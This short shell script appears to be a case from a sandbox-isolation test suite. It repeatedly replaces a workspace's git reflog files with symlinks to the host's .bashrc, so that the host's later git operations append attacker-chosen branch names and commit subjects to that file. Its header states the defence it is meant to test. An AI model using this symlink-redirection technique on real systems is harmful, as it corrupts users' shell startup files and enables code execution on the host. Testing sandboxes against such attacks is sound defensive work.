#!/bin/sh
# Keeps links to a file beside the workspace in the place of logs, while the host goes on working.
# Matters: a reflog line of the host's next commit, merge or checkout is appended to .bashrc, and names of branches and subjects of commits in it are the attacker's.
# Held by: logs that the host writes are not the sandbox's to replace.
# judge: host
# harm: file
# prepare: : >live
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
common=.git
own=.git
i=0
while [ ! -e attack/done ] && [ $i -lt 200000 ]; do
    for log in "$own/logs/HEAD" "$common/logs/HEAD" "$common/logs/refs/heads/main" "$common/logs/refs/heads/other" "$common/logs/refs/heads/linked"; do
        [ -L "$log" ] || { mkdir -p "${log%/*}"; rm -f "$log"; ln -s "$HOSTILE_STAGE/home/.bashrc" "$log"; }
    done
    [ -e attack/ready ] || : >attack/ready
    i=$((i + 1))
done
